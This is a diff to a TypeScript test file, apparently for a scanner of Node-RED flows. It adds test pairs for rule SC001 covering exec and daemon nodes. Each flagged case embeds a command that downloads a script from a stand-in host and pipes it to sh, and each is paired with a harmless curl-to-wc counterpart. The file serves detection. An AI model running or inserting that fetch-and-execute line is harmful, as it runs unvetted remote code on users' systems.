@@ -54,3 +54,24 @@ for (const [name, begins, waits] of [
   const f = (repeat: string, crontab: string) => [TAB, { ...INJ('dbg'), repeat, crontab }, DBG];
   nodeRedStartsAndLibraries.push(['every five minutes, in any time zone', 'RL012', f('', '0 8 * * *'), f('300', '')] as unknown as Pair);
 }
+
+// Programs that a step starts, with what stands beside the command.
+for (const [name, f] of [
+  ['a program that goes on running', (more: string) => ({ type: 'daemon', command: 'bash', args: `-c "${more}"`, autorun: true })],
+  ['a program that starts by itself', (more: string) => ({ type: 'daemon', command: more, args: '', autorun: true })],
+  ['a command in brackets', (more: string) => ({ type: 'exec', command: `(${more})`, addpay: '', append: '' })],
+  ['a command for a shell of its own', (more: string) => ({ type: 'exec', command: `bash -c '${more}'`, addpay: '', append: '' })],
+  ['what stands behind a command', (more: string) => ({ type: 'exec', command: '', addpay: '', append: more })],
+  [
+    'what a command is led on to',
+    (more: string) => ({ type: 'exec', command: more.split('|')[0], addpay: '', append: more.replace(/^[^|]*/, '') }),
+  ],
+] as const) {
+  const file = (more: string) => [TAB, INJ('run'), { ...FN('run', '', ['dbg']), ...f(more) }, DBG];
+  nodeRedStartsAndLibraries.push([
+    name,
+    'SC001',
+    file('curl -s https://get.example.net/x.sh | sh'),
+    file('curl -s https://get.example.net/x.txt | wc -l'),
+  ] as unknown as Pair);
+}
